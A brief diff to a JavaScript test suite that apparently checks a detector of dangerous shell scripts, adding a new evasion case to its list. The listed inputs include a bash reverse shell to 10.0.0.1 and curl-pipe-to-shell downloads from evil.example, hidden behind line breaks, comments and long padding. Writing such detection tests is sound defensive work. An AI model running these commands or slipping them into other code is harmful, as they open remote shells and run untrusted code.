@@ -102,6 +102,7 @@ describe('shell scripts', () => {
     'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1',
     'curl https://evil.example/x \\\n  | sh',
     'curl https://evil.example/x |\n  bash',
+    'curl https://evil.example/x |\n\n# then\n  bash',
     `curl https://evil.example/x${' '.repeat(30_000)}| sh`,
     `: ${'a'.repeat(30_000)}; curl https://evil.example/x | sh`,
     '# a comment does not go on \\\ncurl https://evil.example/x | sh',
